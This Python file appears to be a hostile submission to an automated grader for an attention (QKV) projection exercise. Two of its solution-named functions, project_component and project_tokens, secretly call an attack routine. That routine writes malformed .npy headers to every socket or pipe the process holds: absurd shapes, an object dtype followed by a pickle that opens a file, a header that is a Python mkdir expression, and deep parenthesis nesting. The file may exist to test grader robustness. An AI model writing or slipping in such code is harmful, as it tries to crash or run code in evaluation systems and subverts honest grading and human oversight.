# confuse | earns 0 | frames .npy data whose header lies: terabytes in a hundred bytes, objects with a pickle behind, negative and nested shapes, code as a header
import os
import stat
import struct


def channels():
    """Every descriptor that may lead to the judge."""
    try:
        numbers = sorted(int(name) for name in os.listdir("/proc/self/fd"))
    except OSError:
        numbers = range(3, 256)
    for number in numbers:
        try:
            mode = os.fstat(number).st_mode
        except OSError:
            continue
        if number > 2 and (stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode)):
            yield number


def send(number, data):
    """Write to a descriptor without ever waiting."""
    try:
        os.set_blocking(number, False)
        os.write(number, data)
    except OSError:
        pass
    try:
        os.set_blocking(number, True)
    except OSError:
        pass


PICKLE = b"\x80\x04cbuiltins\nopen\n(X\x1c\x00\x00\x00/tmp/qkv-hostile-confuse-npyX\x01\x00\x00\x00wtR."
HEADERS = [
    "{'descr': '<f8', 'fortran_order': False, 'shape': (1000000000000,), }",
    "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }",
    "{'descr': '<f8', 'fortran_order': False, 'shape': (-1,), }",
    "{'descr': '<f8', 'fortran_order': False, 'shape': (0, 9223372036854775807, 9223372036854775807), }",
    "{'descr': [('a', '<f8')], 'fortran_order': 2, 'shape': True, }",
    "{'descr': '<V2147483647', 'fortran_order': False, 'shape': (2147483647,), }",
    "__import__('os').mkdir('/tmp/qkv-hostile-confuse-npy')",
    "(" * 5000,
]


def attack(*args):
    for number in channels():
        for header in HEADERS:
            for version, code in ((1, "<H"), (2, "<I"), (3, "<I"), (9, "<I")):
                start = (
                    b"\x93NUMPY"
                    + bytes([version, 0])
                    + struct.pack(code, len(header) + 1)
                    + header.encode()
                    + b"\n"
                )
                for data in (start, start + PICKLE):
                    send(number, struct.pack(">I", len(data)) + data)
    return None


def component_terms(x, W, j):
    return None


def project_component(x, W, j):
    return attack(x, W, j)


def project_row(x, W):
    return None


def project_tokens(X, W):
    return attack(X, W)


def project_qkv(X, W_q, W_k, W_v):
    return None


def attention_roles():
    return None
